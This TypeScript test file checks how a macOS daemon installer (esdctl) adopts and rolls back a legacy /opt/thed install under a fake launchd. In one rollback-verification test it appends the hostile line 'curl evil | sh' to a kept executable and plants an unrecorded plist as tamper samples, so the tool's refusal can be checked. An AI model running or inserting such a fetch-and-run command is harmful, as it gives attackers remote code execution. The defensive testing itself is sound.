import assert from 'node:assert/strict'
import {chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, readlinkSync, rmSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import * as plist from 'plist'
import {OfflineLaunchctl} from '../../src/adapters/offline-launchctl.js'
import {ExitCode} from '../../src/exit-codes.js'
import type {LifecycleContext} from '../../src/lifecycle/context.js'
import * as lifecycle from '../../src/lifecycle/index.js'
import {PrefixLayout} from '../../src/layout/prefix-layout.js'
import {cleanupTitle} from '../../src/lifecycle/cleanup-title.js'
import type {Journal} from '../../src/lifecycle/journal.js'
import type {TrustStore} from '../../src/trust/trust-store.js'
import {SAMPLE_DAEMON} from '../doubles/fake-launchd/daemon-plist.js'
import {startFakeLaunchd, type FakeLaunchd} from '../doubles/fake-launchd/fake-launchd.js'
import {buildPayload, makeRoot, sampleDaemonPrograms, snapshotTree, testContext, testIdentity} from '../support/lifecycle-fixture.js'
import type {TestIdentity} from '../support/test-pki.js'
import {expectFinding} from '../support/expect-finding.js'
import {ARTIFACTS, realArtifact} from '../support/real-artifacts.js'

const NAME = 'thed'
const LEGACY_PROGRAM = `/opt/${NAME}/bin/${NAME}`
const OLD_LABEL = 'com.example.thed-legacy-helper'

/**
 * The mission's starting point (DESIGN.md §11): /opt/thed/bin/thed a plain executable, its plist
 * loaded, etc/ and var/ full of state, no esdctl records. A first install adopts it instead of
 * refusing: the legacy jobs are stopped, the executable and plists kept in the rollback slot,
 * etc/ and var/ left alone; a failed health check puts the legacy install back, running.
 */
describe('lifecycle: adopting the legacy install already on the Mac (fake launchd)', function () {
  let launchd: FakeLaunchd
  let identity: TestIdentity
  let trust: TrustStore
  const paths: string[] = []
  let n = 0

  before(async () => {
    ;({identity, trust} = await testIdentity())
    launchd = await startFakeLaunchd({programs: {...sampleDaemonPrograms([NAME]), [LEGACY_PROGRAM]: [process.execPath, SAMPLE_DAEMON]}})
  })
  after(async () => {
    await launchd.stop()
    for (const p of paths) rmSync(p, {recursive: true, force: true})
  })

  interface Legacy {
    root: string
    label: string
    /** The old helper job the manifest's `replaces` names. */
    oldLabel: string
    ctx: LifecycleContext
    layout: PrefixLayout
    payload(manifest?: object): Promise<string>
  }

  /** A machine with the legacy install running: the daemon's own job and an old helper job `replaces` names. */
  async function legacyMachine(): Promise<Legacy> {
    const root = makeRoot()
    paths.push(root)
    const label = `com.example.thed.adopt${n++}`
    const ctx = testContext({root, launchctlPath: launchd.launchctlPath, trust})
    const layout = new PrefixLayout({name: NAME, label, root})
    mkdirSync(join(root, 'opt'), {mode: 0o755})
    for (const dir of [layout.prefix, layout.bin, join(layout.etc, 'rules'), join(layout.var, 'db')]) mkdirSync(dir, {recursive: true, mode: 0o755})
    writeFileSync(join(layout.bin, NAME), '#!/bin/sh\n# the legacy thed 0.9\n')
    chmodSync(join(layout.bin, NAME), 0o755)
    writeFileSync(join(layout.etc, 'thed.conf'), 'customer=settings\n')
    writeFileSync(join(layout.etc, 'rules', 'local.yaml'), 'rule: customer\n')
    writeFileSync(join(layout.var, 'db', 'events.db'), 'precious state')
    const oldLabel = `${OLD_LABEL}${n}`
    for (const l of [label, oldLabel]) {
      const file = join(root, 'Library', 'LaunchDaemons', `${l}.plist`)
      writeFileSync(file, plist.build({Label: l, Program: LEGACY_PROGRAM, RunAtLoad: true, KeepAlive: true}))
      chmodSync(file, 0o644)
      await ctx.launchctl.enable(l)
      await ctx.launchctl.bootstrap(file)
    }
    let p = 0
    return {
      root, label, oldLabel, ctx, layout,
      payload: (manifest = {}) => {
        const dir = `${root}-payload-${p++}`
        paths.push(dir)
        return buildPayload({dir, name: NAME, label, version: '1.0.0', identity, etc: {'thed.conf': 'default=1\n'}, manifest: {replaces: [oldLabel], ...manifest}})
      },
    }
  }

  const running = async (m: Legacy, label: string): Promise<boolean> => (await m.ctx.launchctl.print(label))?.state === 'running'
  const machineState = (m: Legacy): Record<string, string> => ({...prefixed('opt', snapshotTree(join(m.root, 'opt'))), ...prefixed('LaunchDaemons', snapshotTree(join(m.root, 'Library', 'LaunchDaemons')))})

  async function cleanUp(m: Legacy): Promise<void> {
    for (const l of [m.label, m.oldLabel]) await m.ctx.launchctl.bootout(l, {waitMs: 10_000}).catch(() => undefined)
  }

  it('--dry-run shows the adoption plan and changes nothing', async () => {
    const m = await legacyMachine()
    const before = machineState(m)
    const r = await lifecycle.install(m.ctx, await m.payload(), {dryRun: true})
    assert.equal(r.exitCode, ExitCode.ok, r.message)
    assert.match(r.message, /would adopt the legacy \/opt\/thed\/bin\/thed/)
    const ids = (r.plan ?? []).map((s) => s.id)
    for (const id of ['bootout-old', 'bootout-replaced', 'adopt-legacy', 'place-new', 'links', 'bootstrap', 'health-check']) assert.ok(ids.includes(id), `${id} in ${ids.join(', ')}`)
    assert.ok(ids.indexOf('adopt-legacy') < ids.indexOf('links'))
    assert.deepEqual(machineState(m), before)
    assert.ok(await running(m, m.label))
    await cleanUp(m)
  })

  it('the adoption the dry run shows is the plan the real run journals, step for step', async () => {
    const m = await legacyMachine()
    const payload = await m.payload()
    const dry = await lifecycle.install(m.ctx, payload, {dryRun: true})
    let journal: Journal | undefined
    const watching = {...m.ctx, faultHook: (point: string) => void (point === 'journal:opened' ? (journal = JSON.parse(readFileSync(m.layout.journal, 'utf8')) as Journal) : undefined)}
    const r = await lifecycle.install(watching, payload)
    assert.equal(r.exitCode, ExitCode.ok, r.message)
    assert.deepEqual(dry.plan!.map((s) => [s.id, s.kind, s.title]), journal!.steps.map((s) => [s.id, s.kind, s.title]))
    assert.deepEqual(dry.finish, journal!.finish.map((c) => ({kind: c.kind, title: cleanupTitle(c)})))
    assert.ok(journal!.steps.some((s) => s.id === 'adopt-legacy' && s.kind === 'move'))
    // Rolling back to the legacy install: the dry run shows the steps and the finish its journal holds.
    const dryBack = await lifecycle.rollback(m.ctx, NAME, {dryRun: true})
    journal = undefined
    const back = await lifecycle.rollback(watching, NAME)
    assert.equal(back.exitCode, ExitCode.ok, back.message)
    assert.deepEqual(dryBack.plan!.map((s) => [s.id, s.kind, s.title]), journal!.steps.map((s) => [s.id, s.kind, s.title]))
    assert.deepEqual(dryBack.finish, journal!.finish.map((c) => ({kind: c.kind, title: cleanupTitle(c)})))
    assert.ok(journal!.steps.some((s) => s.kind === 'registry'), 'the registry change is a step')
    await cleanUp(m)
  })

  it('install adopts: legacy jobs stopped, executable and plists kept in the slot, etc/ and var/ as they were, the bundle runs', async () => {
    const m = await legacyMachine()
    const legacyPlist = readFileSync(m.layout.launchdPlist)
    const oldPlistPath = join(m.root, 'Library', 'LaunchDaemons', `${m.oldLabel}.plist`)
    const oldPlist = readFileSync(oldPlistPath)
    const r = await lifecycle.install(m.ctx, await m.payload())
    assert.equal(r.exitCode, ExitCode.ok, `${r.message} ${JSON.stringify(r.findings)}`)
    assert.match(r.message, /installed over the legacy \/opt\/thed\/bin\/thed/)
    assert.equal(readlinkSync(join(m.layout.bin, NAME)), `../${NAME}.app/Contents/MacOS/${NAME}`)
    const slot = join(m.layout.rollbackSlot, 'legacy')
    assert.equal(readFileSync(join(slot, 'bin', NAME), 'utf8'), '#!/bin/sh\n# the legacy thed 0.9\n')
    assert.deepEqual(readFileSync(join(slot, `${m.oldLabel}.plist`)), oldPlist)
    assert.deepEqual(readFileSync(m.layout.slotPlist), legacyPlist)
    assert.ok(!existsSync(oldPlistPath))
    assert.equal(readFileSync(join(m.layout.etc, 'thed.conf'), 'utf8'), 'customer=settings\n')
    assert.equal(readFileSync(join(m.layout.etc, 'thed.conf.default'), 'utf8'), 'default=1\n')
    assert.equal(readFileSync(join(m.layout.etc, 'rules', 'local.yaml'), 'utf8'), 'rule: customer\n')
    assert.equal(readFileSync(join(m.layout.var, 'db', 'events.db'), 'utf8'), 'precious state')
    assert.equal((plist.parse(readFileSync(m.layout.launchdPlist, 'utf8')) as {Program: string}).Program, `/opt/${NAME}/${NAME}.app/Contents/MacOS/${NAME}`)
    assert.ok(await running(m, m.label), 'the bundled daemon runs')
    assert.equal(await m.ctx.launchctl.print(m.oldLabel), undefined, 'the old helper job is gone')
    assert.ok(lstatSync(m.layout.receipt).isFile())
    await cleanUp(m)
  })

  it('rollback after an adoption restores the legacy executable and plists byte for byte and runs its jobs again', async () => {
    const m = await legacyMachine()
    const before = machineState(m)
    const r = await lifecycle.install(m.ctx, await m.payload())
    assert.equal(r.exitCode, ExitCode.ok, r.message)
    writeFileSync(join(m.layout.var, 'db', 'events.db'), 'state written by the bundled daemon')
    const dry = await lifecycle.rollback(m.ctx, NAME, {dryRun: true})
    assert.match(dry.message, /would roll thed back from 1\.0\.0 to the legacy \/opt\/thed\/bin\/thed/)
    const back = await lifecycle.rollback(m.ctx, NAME)
    assert.equal(back.exitCode, ExitCode.ok, back.message)
    assert.match(back.message, /rolled back from 1\.0\.0 to the legacy/)
    assert.match(back.message, /its jobs \(.*\) run again/, 'on a live Mac the jobs are started')
    const after = machineState(m)
    // esdctl's own directory keeps its audit log; etc/ and var/ stay as they are (what the daemon wrote
    // since included), without the default the adoption wrote beside the customer's config; everything else is as before.
    const mine = (k: string): boolean => k.includes('/.esdctl') || k.includes('/var/db/events.db')
    assert.equal(existsSync(join(m.layout.etc, 'thed.conf.default')), false)
    assert.deepEqual(Object.fromEntries(Object.entries(after).filter(([k]) => !mine(k))), Object.fromEntries(Object.entries(before).filter(([k]) => !mine(k))))
    assert.equal(readFileSync(join(m.layout.var, 'db', 'events.db'), 'utf8'), 'state written by the bundled daemon')
    assert.ok(await running(m, m.label), 'the legacy job runs again')
    assert.ok(await running(m, m.oldLabel), 'the old helper job runs again')
    assert.deepEqual(await lifecycle.readRegistry(m.root), [])
    await cleanUp(m)
  })

  it('rollback to the legacy install in an image takes back what the adoption added: the .default beside the admin\'s config, the log directories it made', async () => {
    const m = await legacyMachine()
    const image: LifecycleContext = {...m.ctx, launchctl: new OfflineLaunchctl(), offline: true}
    const before = machineState(m)
    const r = await lifecycle.install(image, await m.payload({StandardOutPath: '{var}/log/out/thed.log'}))
    assert.equal(r.exitCode, ExitCode.ok, r.message)
    assert.ok(existsSync(join(m.layout.var, 'log', 'out')))
    assert.equal(readFileSync(join(m.layout.etc, 'thed.conf.default'), 'utf8'), 'default=1\n')
    assert.deepEqual(JSON.parse(readFileSync(m.layout.receipt, 'utf8')).adopted.etcDefaults, ['thed.conf'])
    assert.deepEqual(JSON.parse(readFileSync(m.layout.receipt, 'utf8')).adopted.createdDirs, ['var/log', 'var/log/out'])
    const back = await lifecycle.rollback(image, NAME)
    assert.equal(back.exitCode, ExitCode.ok, back.message)
    const after = machineState(m)
    const mine = (k: string): boolean => k.includes('/.esdctl')
    assert.deepEqual(Object.fromEntries(Object.entries(after).filter(([k]) => !mine(k))), Object.fromEntries(Object.entries(before).filter(([k]) => !mine(k))))
    await cleanUp(m)
  })

  it('rollback to the legacy install keeps a .default the admin changed since, and a log directory with logs in it', async () => {
    const m = await legacyMachine()
    const image: LifecycleContext = {...m.ctx, launchctl: new OfflineLaunchctl(), offline: true}
    assert.equal((await lifecycle.install(image, await m.payload({StandardOutPath: '{var}/log/thed.log'}))).exitCode, ExitCode.ok)
    writeFileSync(join(m.layout.etc, 'thed.conf.default'), 'default=1\nmine=too\n')
    writeFileSync(join(m.layout.var, 'log', 'thed.log'), 'what the daemon said\n')
    const back = await lifecycle.rollback(image, NAME)
    assert.equal(back.exitCode, ExitCode.ok, back.message)
    assert.equal(readFileSync(join(m.layout.etc, 'thed.conf.default'), 'utf8'), 'default=1\nmine=too\n')
    assert.equal(readFileSync(join(m.layout.var, 'log', 'thed.log'), 'utf8'), 'what the daemon said\n')
    await cleanUp(m)
  })

  it('a new daemon that fails its health check puts the legacy install back byte for byte, running (exit 6)', async () => {
    const m = await legacyMachine()
    const before = machineState(m)
    const crashing = await m.payload({programArguments: ['--exit-after', '200', '--exit-code', '3'], healthCheck: {runningSeconds: 1}})
    const r = await lifecycle.install(m.ctx, crashing)
    assert.equal(r.exitCode, ExitCode.rolledBack, r.message)
    assert.match(r.message, /the legacy install was restored and is running/)
    assert.deepEqual(machineState(m), before)
    assert.ok(await running(m, m.label), 'the legacy job runs again')
    assert.ok(await running(m, m.oldLabel), 'the old helper job runs again')
    await cleanUp(m)
  })

  it("refuses a job \"replaces\" names that runs another vendor's program: badInput naming the plist, its Program and the field; nothing changes", async () => {
    const m = await legacyMachine()
    const other = `com.othervendor.agent${n}`
    const otherPlist = join(m.root, 'Library', 'LaunchDaemons', `${other}.plist`)
    const cases: [{[key: string]: plist.PlistValue}, string][] = [
      [{Label: other, Program: '/usr/local/othervendor/agent', RunAtLoad: true}, '/usr/local/othervendor/agent'],
      [{Label: other, ProgramArguments: ['/opt/thed/../othervendor/agent', '-d'], RunAtLoad: true}, '/opt/thed/../othervendor/agent'],
      [{Label: other, ProgramArguments: ['/opt/thedx/bin/thed'], RunAtLoad: true}, '/opt/thedx/bin/thed'],
    ]
    for (const [job, program] of cases) {
      writeFileSync(otherPlist, plist.build(job))
      chmodSync(otherPlist, 0o644)
      const before = machineState(m)
      const e = await lifecycle.install(m.ctx, await m.payload({replaces: [m.oldLabel, other]})).then(() => undefined, (err: unknown) => err)
      assert.ok(e instanceof lifecycle.LifecycleError, String(e))
      assert.equal(e.exitCode, ExitCode.badInput)
      assert.ok(e.message.includes(`"replaces" lists ${other}, but ${otherPlist} runs Program ${JSON.stringify(program)}`), e.message)
      assert.match(e.message, /Remove .* from "replaces" in esdctl\.json/)
      assert.deepEqual(machineState(m), before)
      assert.ok(await running(m, m.label), 'the legacy job still runs')
      assert.ok(await running(m, m.oldLabel), 'the old helper job still runs')
    }
    // A replaced job run through ProgramArguments of the legacy executable is still adopted.
    rmSync(otherPlist)
    const helper = join(m.root, 'Library', 'LaunchDaemons', `${m.oldLabel}.plist`)
    writeFileSync(helper, plist.build({Label: m.oldLabel, ProgramArguments: [LEGACY_PROGRAM, '--helper'], RunAtLoad: true, KeepAlive: true}))
    const ok = await lifecycle.install(m.ctx, await m.payload())
    assert.equal(ok.exitCode, ExitCode.ok, ok.message)
    assert.ok(existsSync(join(m.layout.rollbackSlot, 'legacy', `${m.oldLabel}.plist`)))
    await cleanUp(m)
  })

  it('rollback to the legacy install first checks the kept files are what adoption recorded: a changed, loosened or added file is refused (exit 3), nothing changes', async () => {
    const m = await legacyMachine()
    assert.equal((await lifecycle.install(m.ctx, await m.payload())).exitCode, ExitCode.ok)
    const receipt = JSON.parse(readFileSync(m.layout.receipt, 'utf8')) as {adopted: {files: {path: string; sha256: string}[]}}
    assert.deepEqual(receipt.adopted.files.map((f) => f.path).sort(), [`${m.label}.plist`, join('legacy', 'bin', NAME), join('legacy', `${m.oldLabel}.plist`)].sort())
    const kept = join(m.layout.rollbackSlot, 'legacy', 'bin', NAME)
    const keptHelper = join(m.layout.rollbackSlot, 'legacy', `${m.oldLabel}.plist`)
    const original = readFileSync(kept)
    const refused = async (why: RegExp, path: string, dryRun = false): Promise<void> => {
      const before = machineState(m)
      const r = await lifecycle.rollback(m.ctx, NAME, {dryRun})
      const f = expectFinding(r, {id: 'rollback.legacy-changed', severity: 'error', exitCode: ExitCode.verificationFailed})
      assert.equal(f.path, path)
      assert.match(f.message, why)
      assert.match(r.message, /failed verification; nothing was changed and thed 1\.0\.0 stays installed/)
      assert.deepEqual(machineState(m), before)
      assert.ok(await running(m, m.label), 'the bundled daemon still runs')
    }
    writeFileSync(kept, Buffer.concat([original, Buffer.from('\ncurl evil | sh\n')]))
    await refused(/has SHA-256 [0-9a-f]{64}; adoption recorded [0-9a-f]{64}/, kept)
    await refused(/has SHA-256/, kept, true)
    writeFileSync(kept, original)
    chmodSync(kept, 0o775)
    await refused(/mode 775, not root-owned and writable only by root/, kept)
    chmodSync(kept, 0o755)
    writeFileSync(keptHelper, readFileSync(keptHelper, 'utf8').replace('<true/>', '<false/>'))
    await refused(/has SHA-256/, keptHelper)
    const planted = join(m.layout.rollbackSlot, 'legacy', 'com.example.planted.plist')
    writeFileSync(planted, plist.build({Label: 'com.example.planted', Program: '/Users/Shared/planted'}))
    writeFileSync(keptHelper, readFileSync(keptHelper, 'utf8').replace('<false/>', '<true/>'))
    await refused(/was not recorded at adoption/, planted)
    rmSync(planted)
    const back = await lifecycle.rollback(m.ctx, NAME)
    assert.equal(back.exitCode, ExitCode.ok, `${back.message} ${JSON.stringify(back.findings)}`)
    assert.ok(await running(m, m.oldLabel), 'the old helper job runs again')
    await cleanUp(m)
  })

  it('rollback to the legacy install refuses when the receipt recorded nothing of it (an older adoption), exit 3, nothing changes', async () => {
    const m = await legacyMachine()
    assert.equal((await lifecycle.install(m.ctx, await m.payload())).exitCode, ExitCode.ok)
    const receipt = JSON.parse(readFileSync(m.layout.receipt, 'utf8')) as Record<string, unknown>
    delete receipt['adopted']
    writeFileSync(m.layout.receipt, JSON.stringify(receipt))
    const before = machineState(m)
    const r = await lifecycle.rollback(m.ctx, NAME)
    const f = expectFinding(r, {id: 'rollback.legacy-not-recorded', severity: 'error', exitCode: ExitCode.verificationFailed})
    assert.equal(f.path, m.layout.receipt)
    assert.deepEqual(machineState(m), before)
    assert.ok(await running(m, m.label))
    await cleanUp(m)
  })

  it('rollback to a legacy Mach-O executable judges its code signature as verify does: a broken one is refused (exit 3), an intact one runs again', async function () {
    this.timeout(120_000)
    const real = readFileSync(await realArtifact(ARTIFACTS.esbuild))
    for (const broken of [true, false]) {
      const m = await legacyMachine()
      const bytes = Buffer.from(real)
      // A byte inside the first code page: the signature no longer matches the code it was made over.
      if (broken) bytes[0x2000] = bytes[0x2000]! ^ 0xff
      writeFileSync(join(m.layout.bin, NAME), bytes)
      assert.equal((await lifecycle.install(m.ctx, await m.payload())).exitCode, ExitCode.ok)
      const before = machineState(m)
      const r = await lifecycle.rollback(m.ctx, NAME)
      if (broken) {
        assert.equal(r.exitCode, ExitCode.verificationFailed, r.message)
        const errors = (r.findings ?? []).filter((f) => f.severity === 'error')
        assert.ok(errors.length > 0 && errors.every((f) => f.path.endsWith(join('legacy', 'bin', NAME))), JSON.stringify(r.findings))
        assert.ok(errors.every((f) => !f.id.startsWith('rollback.')), 'the verifier\'s own findings')
        assert.deepEqual(machineState(m), before)
        assert.ok(await running(m, m.label), 'the bundled daemon still runs')
      } else {
        assert.equal(r.exitCode, ExitCode.ok, `${r.message} ${JSON.stringify(r.findings)}`)
        assert.deepEqual(readFileSync(join(m.layout.bin, NAME)), real)
      }
      await cleanUp(m)
    }
  })

  it('refuses what it cannot adopt safely: a legacy executable others may change, a plain file no job runs', async () => {
    const m = await legacyMachine()
    chmodSync(join(m.layout.bin, NAME), 0o777)
    const before = machineState(m)
    const writable = await lifecycle.install(m.ctx, await m.payload()).then(() => undefined, (e: unknown) => e)
    assert.ok(writable instanceof lifecycle.LifecycleError, String(writable))
    assert.equal(writable.exitCode, ExitCode.unsafeEnvironment)
    assert.match(writable.message, /writable by others.*not adopted/)
    assert.deepEqual(machineState(m), before)
    chmodSync(join(m.layout.bin, NAME), 0o755)
    await cleanUp(m)
    for (const l of [m.label, m.oldLabel]) rmSync(join(m.root, 'Library', 'LaunchDaemons', `${l}.plist`))
    const unknown = await lifecycle.install(m.ctx, await m.payload()).then(() => undefined, (e: unknown) => e)
    assert.ok(unknown instanceof lifecycle.LifecycleError, String(unknown))
    assert.equal(unknown.exitCode, ExitCode.unsafeEnvironment)
    assert.match(unknown.message, /no launchd job runs it.*"replaces"/)
  })
})

function prefixed(prefix: string, tree: Record<string, string>): Record<string, string> {
  return Object.fromEntries(Object.entries(tree).map(([k, v]) => [`${prefix}/${k}`, v]))
}
